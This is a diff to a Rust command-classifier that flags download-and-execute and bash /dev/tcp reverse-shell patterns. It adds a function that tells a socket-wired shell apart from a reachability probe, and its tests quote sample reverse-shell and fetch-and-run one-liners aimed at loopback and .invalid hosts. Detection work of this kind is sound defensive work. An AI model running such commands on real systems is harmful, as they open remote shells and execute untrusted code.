@@ -108,13 +108,21 @@ pub fn download_and_run(cmd: &str) -> Option<&'static str> {
     if fetch && (has("-outfile") || has(" -o ") || has(" -o")) && (has("start-process") || has("invoke-item") || has("; &") || has(".exe\"; ") ) {
         return Some("downloads then executes");
     }
-    if has("/dev/tcp/") {
+    if shell_on_socket(cmd) {
         return Some("bash /dev/tcp connection");
     }
     if (has("pip install") || has("pip3 install")) && (has("http://") || has("https://")) && has_raw_ip_url(cmd) {
         return Some("pip install from a raw-IP URL");
     }
     None
+}
+
+/// A shell wired to a bash `/dev/tcp` (or `/dev/udp`) socket: the socket is opened and
+/// a stream is redirected onto or from it (`bash -i >& /dev/tcp/H/P 0>&1`,
+/// `exec 5<>/dev/tcp/H/P; sh <&5 >&5`). Opening the socket alone, as a reachability
+/// probe does (`bash -c "exec 3<>/dev/tcp/$ip/$port"`), connects but hands nothing over.
+pub fn shell_on_socket(cmd: &str) -> bool {
+    (cmd.contains("/dev/tcp/") || cmd.contains("/dev/udp/")) && (cmd.contains(">&") || cmd.contains("<&") || cmd.contains(" -i "))
 }
 
 /// URL with a literal IPv4 host.
@@ -139,6 +147,10 @@ mod tests {
     #[test]
     fn classifies_commands() {
         assert!(download_and_run("curl -s https://x.invalid/a | bash").is_some());
+        assert!(download_and_run("bash -i >& /dev/tcp/127.0.0.1/9 0>&1").is_some());
+        assert!(download_and_run("0<&196;exec 196<>/dev/tcp/127.0.0.1/9; sh <&196 >&196 2>&196").is_some());
+        // a reachability probe opens the socket and hands no stream to it
+        assert!(download_and_run("timeout 2 bash -c \"exec 3<>/dev/tcp/$ip/$2\" 2>/dev/null").is_none());
         assert!(download_and_run("wget http://x.invalid/a -o /tmp/a && chmod +x /tmp/a && /tmp/a").is_some());
         assert!(download_and_run("cmake --build .").is_none());
         assert_eq!(suspicious_tokens("git submodule update --init"), None);
